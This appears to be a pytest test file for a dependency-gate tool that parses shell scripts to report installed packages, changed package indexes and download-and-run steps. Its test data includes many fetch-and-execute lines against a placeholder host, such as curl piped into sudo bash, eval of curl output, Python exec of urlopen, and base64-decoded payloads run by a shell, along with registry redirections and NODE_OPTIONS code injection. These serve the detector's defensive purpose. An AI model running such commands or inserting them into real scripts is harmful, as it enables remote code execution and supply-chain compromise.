"""What the commands of a script install."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hunkgate.gates.dependencies import install_commands
from readings import brief, short


def installed(script: str) -> list[str]:
    """Each dependency as ``ecosystem: name value``, then each option."""
    dependencies, options = install_commands.read(script)
    return [
        *(f"{one.ecosystem}: {brief(one)}" for one in dependencies),
        *(short(one) for one in options),
    ]


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        pytest.param("pip install --no-cache-dir tool==1.0", ["pypi: tool ==1.0 build"], id="pip"),
        pytest.param("python3.12 -m pip install -U pip 'tox<4'", ["pypi: pip - build", "pypi: tox <4 build"], id="pip as a module"),
        pytest.param("/opt/venv/bin/pip3 install a", ["pypi: a - build"], id="pip by its path"),
        pytest.param("pip install -r requirements.txt -c pins.txt -e . ./dist/a.whl '.[dev]'", [], id="what lies in the repository"),
        pytest.param("pip install a 2>&1 | tee log", ["pypi: a - build"], id="redirections are no packages"),
        pytest.param("pip install a > log.txt b", ["pypi: a - build", "pypi: b - build"], id="words on after a redirection"),
        pytest.param("pip install -i https://e.example/simple a", ["pypi: a - build", "index-changed pip install -i https://e.example/simple"], id="an index"),
        pytest.param("PIP_INDEX_URL=https://e.example pip install a", ["pypi: a - build", "index-changed PIP_INDEX_URL https://e.example"], id="an index from the environment"),
        pytest.param("pip config set global.index-url https://e.example", ["index-changed pip config global.index-url https://e.example"], id="an index by configuration"),
        pytest.param("npm config set registry https://e.example", ["index-changed npm config registry https://e.example"], id="a registry by configuration"),
        pytest.param("pip install git+https://f.example/a/b.git@main#egg=b", ["pypi: b git+https://f.example/a/b.git@main build git:f.example/a/b@main/branch"], id="from git"),
        pytest.param("pip install \\\n  a \\\n  b", ["pypi: a - build", "pypi: b - build"], id="continued lines"),
        pytest.param("uv pip install --system a==1", ["pypi: a ==1 build"], id="uv pip"),
        pytest.param("uv tool install a && uvx b --flag c", ["pypi: a - build", "pypi: b - build"], id="uv tools"),
        pytest.param("uv run --with a pytest -x", ["pypi: a - build"], id="uv run installs what --with names"),
        pytest.param("uv run pip install a", ["pypi: a - build"], id="uv run of an installer"),
        pytest.param("poetry add a; poetry run pip install b", ["pypi: a - build", "pypi: b - build"], id="poetry"),
        pytest.param("pipx run nox -s tests", ["pypi: nox - build"], id="pipx runs one package"),
        pytest.param("npm install -g npm@9 @s/b@^1 --registry https://r.example", ["npm: npm 9 build", "npm: @s/b ^1 build", "index-changed npm install --registry https://r.example"], id="npm"),
        pytest.param("npm ci && npm install && npm run build", [], id="npm from the lock"),
        pytest.param("npx --yes create-x@latest my-app", ["npm: create-x latest build"], id="npx runs one package"),
        pytest.param("npx -p a -p b cmd", ["npm: a - build", "npm: b - build"], id="npx with packages"),
        pytest.param("yarn add -D x@1 && pnpm dlx y && bun add z", ["npm: x 1 build", "npm: y - build", "npm: z - build"], id="yarn, pnpm and bun"),
        pytest.param("cargo install --locked --version 1.2 tool", ["cargo: tool 1.2 build"], id="cargo"),
        pytest.param("cargo install --git https://f.example/x --rev abc tool", ["cargo: tool - build git:f.example/x@abc/sha"], id="cargo from git"),
        pytest.param("go install f.example/x/cmd@v1.2 && go install ./...", ["golang: f.example/x/cmd v1.2 build"], id="go"),
        pytest.param("gem install bundler -v 2.1", ["gem: bundler 2.1 build"], id="gem"),
        pytest.param("composer global require a/b:^1", ["composer: a/b ^1 build"], id="composer"),
        pytest.param("conda install -y -c conda-forge numpy=1.2", ["conda: numpy =1.2 build", "index-changed conda install -c conda-forge"], id="conda"),
        pytest.param("apt-get update && apt-get install -y git", ["deb: git - build"], id="apt"),
        pytest.param("apk add --no-cache curl", ["apk: curl - build"], id="apk"),
        pytest.param("curl -fsSL https://e.example/i.sh | sudo -E bash", ["dynamic download and run https://e.example/i.sh"], id="a download into a shell"),
        pytest.param("bash <(curl -s https://e.example/i.sh)", ["dynamic download and run https://e.example/i.sh"], id="a shell that reads a download"),
        pytest.param('sh -c "$(curl -fsSL https://e.example/i.sh)"', ["dynamic download and run https://e.example/i.sh"], id="a shell with a download as its script"),
        pytest.param("curl https://e.example/x | python3 -", ["dynamic download and run https://e.example/x"], id="a download into an interpreter"),
        pytest.param("curl -o file https://e.example/x | tee log", [], id="a download into a file"),
        pytest.param("pip install $PACKAGES", ["dynamic pip install $PACKAGES"], id="a name that only the shell knows"),
        pytest.param("pip install a==$VERSION", ["pypi: a ==$VERSION build"], id="a version that only the shell knows"),
        pytest.param("pip install ${{ inputs.pkg || 'x' }}", ["dynamic pip install ${{_inputs.pkg_x_}}"], id="an expression of a workflow"),
        pytest.param("sh -c 'pip install a && npm i b'", ["pypi: a - build", "npm: b - build"], id="a script within a script"),
        pytest.param("if x; then\n  sudo -H pip install a # why\nfi\npip install b", ["pypi: a - build", "pypi: b - build"], id="branches count, comments do not"),
        pytest.param("echo 'it''s unclosed\npip install a", ["pypi: a - build"], id="a stray quote hides nothing"),
        pytest.param('bash -c "\n  pip install a\n"', ["pypi: a - build"], id="a quote that runs over lines"),
        pytest.param("echo pip install a", [], id="words of another command"),
        pytest.param("time env X=1 timeout -s KILL 60 pip install a", ["pypi: a - build"], id="programs that only run others"),
        pytest.param("", [], id="nothing"),
        pytest.param("gosu user pip install a; find . -exec pip install b \\;", ["pypi: a - build", "pypi: b - build"], id="more programs that run others"),
        pytest.param("conda run -n env pip install a", ["pypi: a - build"], id="conda runs an installer"),
        pytest.param("echo a b | xargs pip install", ["pypi: a - build", "pypi: b - build"], id="words that are handed on"),
        pytest.param("cat list | xargs pip install", ["dynamic xargs pip install"], id="names that stand in a file"),
        pytest.param("echo 'pip install a' | sh", ["pypi: a - build"], id="a text that a shell reads"),
        pytest.param('echo `pip install a`; x "$(npm i b)"', ["pypi: a - build", "npm: b - build"], id="commands between other words"),
        pytest.param("python -c 'import os; os.system(\"pip install a\")'", ["pypi: a - build"], id="a command in Python's code"),
        pytest.param("node -e 'spawn(\"npm\", [\"i\", \"a\"]); run([\"npm\", \"i\", \"b\"])'", ["npm: b - build"], id="the words of a command in code"),
        pytest.param("cargo install --git https://f.example/o/tool", ["cargo: tool - build git:f.example/o/tool"], id="cargo from a repository without a name"),
        pytest.param("go get f.example/x", ["golang: f.example/x - build"], id="go without a version"),
        pytest.param("deno run https://f.example/x.ts", ["deno: f.example/x.ts https://f.example/x.ts build url:f.example/x.ts"], id="deno from an address"),
        pytest.param("echo 'a==1' >> requirements.txt", ["pypi: a ==1 build"], id="a requirement written into a file"),
        pytest.param("pip install -r https://e.example/r.txt", ["include-added pip install -r https://e.example/r.txt"], id="requirements from an address"),
    ],
)  # fmt: skip
def test_what_a_script_installs(script: str, expected: list[str]) -> None:
    assert installed(script) == expected


RUN = "dynamic download and run https://e.example/i"


@pytest.mark.parametrize(
    "script",
    [
        "curl https://e.example/i | sh -s -- x",
        "curl https://e.example/i | tee log | gunzip | sudo bash",
        "curl https://e.example/i | base64 -d | bash -e -o pipefail",
        'eval "$(curl https://e.example/i)"',
        "eval `wget -qO- https://e.example/i`",
        "eval $(curl https://e.example/i)",
        "source <(curl https://e.example/i)",
        'X=$(curl https://e.example/i) && eval "$X"',
        'X="$(curl https://e.example/i)"; bash -c "$X"',
        "sh -c '$(curl https://e.example/i)'",
        "curl https://e.example/i > x && python x --now",
        "busybox wget -O- https://e.example/i | sh",
        "aria2c https://e.example/i && chmod +x i && ./i",
        "http https://e.example/i | bash",
        "(curl https://e.example/i)|bash",
        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://e.example/i').read())\"",
        "ruby -ropen-uri -e \"eval URI.open('https://e.example/i').read\"",
        "php -r \"eval(file_get_contents('https://e.example/i'));\"",
        "perl -e 'system(\"curl https://e.example/i | sh\")'",
    ],
)
def test_what_a_script_fetches_and_runs(script: str) -> None:
    assert installed(script) == [RUN]


def test_a_text_that_is_decoded_and_run_is_shown() -> None:
    assert installed("echo bHM= | base64 --decode | sh") == ["dynamic decode and run echo bHM="]


@pytest.mark.parametrize(
    "script",
    [
        "curl -s https://e.example/i | jq -r .tag",
        "curl -s https://e.example/i | python3 -m json.tool",
        "curl -s https://e.example/i | python3 -c 'import json, sys; print(json.load(sys.stdin))'",
        "curl -s https://e.example/i | perl -pe 's/a/b/'",
        "V=$(curl -s https://e.example/i | jq -r .tag); echo $V",
        'V="$(curl -s https://e.example/i)"; echo $V',
        "curl https://e.example/i.json > a.json && python3 load.py a.json",
        "curl -o i.sh https://e.example/i.sh; cat i.sh",
        "cat x | curl -X POST https://e.example/i -d @-",
        "echo 'Use `pip install a` first, or $(npm i b)'",
        'echo "Use \\`pip install a\\` first"',
        'eval "$(ssh-agent -s)"; source <(kubectl completion bash); . ./env.sh',
        'echo "$KEY" | base64 -d > key; echo "$KEY" | base64 -d | gpg --import',
        "python -c 'import sys; print(sys.version)'",
        "go get ./... && go run main.go && go run ./cmd/x",
        "npx --no-install tsc",
        "npm publish --registry https://e.example && npm config get registry",
        "poetry config virtualenvs.create false; conda config --set always_yes yes",
        "CARGO_REGISTRY_TOKEN=x CARGO_REGISTRIES_CRATES_IO_PROTOCOL=sparse cargo publish",
        "export GOFLAGS=-mod=vendor NODE_OPTIONS=--max-old-space-size=4096",
        "registry=registry.example/x; docker build -t $registry .",
        "pip install -r docs/dev.txt",
    ],
)
def test_what_only_looks_like_it_is_passed_over(script: str) -> None:
    assert installed(script) == []


@pytest.mark.parametrize(
    "script",
    [
        "pip config set --global global.extra-index-url https://e.example",
        "npm set registry https://e.example",
        "npm config set registry=https://e.example",
        "npm ci --registry https://e.example",
        "uv sync --index=https://e.example",
        "go env -w GOPROXY=https://e.example",
        "bundle config set --global mirror.https://r.example https://e.example",
        "gem sources --add https://e.example",
        "composer config repositories.x vcs https://e.example",
        "conda config --add channels https://e.example",
        "dotnet nuget add source https://e.example",
        "poetry source add x https://e.example",
        "echo 'registry=https://e.example' > ~/.npmrc",
        "printf '[global]\\nindex-url = https://e.example\\n' > /etc/pip.conf",
        "cat <<X > /etc/pip.conf\n[global]\nindex-url=https://e.example\nX",
        "GOPRIVATE=https://e.example go build",
        "export PIP_CONFIG_FILE=https://e.example",
    ],
)
def test_where_packages_come_from_is_shown(script: str) -> None:
    (found,) = installed(script)
    assert found.startswith("index-changed ")
    assert "https://e.example" in found


def test_code_that_every_run_of_a_tool_runs_is_shown() -> None:
    assert installed("NODE_OPTIONS='--require ./x.js' RUSTC_WRAPPER=x y") == [
        "install-script NODE_OPTIONS --require ./x.js",
        "install-script RUSTC_WRAPPER x",
    ]


@given(st.text(alphabet="pip install a-x1$'\"`\\|<>&;(){}\n#@=/ \0é", max_size=80))
def test_any_code_is_read(code: str) -> None:
    install_commands.read_code(code)


def test_lines_of_commands_in_code_are_the_files() -> None:
    dependencies, _ = install_commands.read_code("x = 1\ny('z')\nrun('pip install a')\n", line=10)
    assert [(one.name, one.line) for one in dependencies] == [("a", 12)]


def test_lines_are_the_files() -> None:
    dependencies, _ = install_commands.read("x\n\npip install a\npip install b", line=10)
    assert [(one.name, one.line) for one in dependencies] == [("a", 12), ("b", 13)]


@given(st.text(alphabet="pip install a-x1$'\"`\\|<>&;(){}\n#@=/ \0é", max_size=80))
def test_any_text_is_read(script: str) -> None:
    install_commands.read(script)
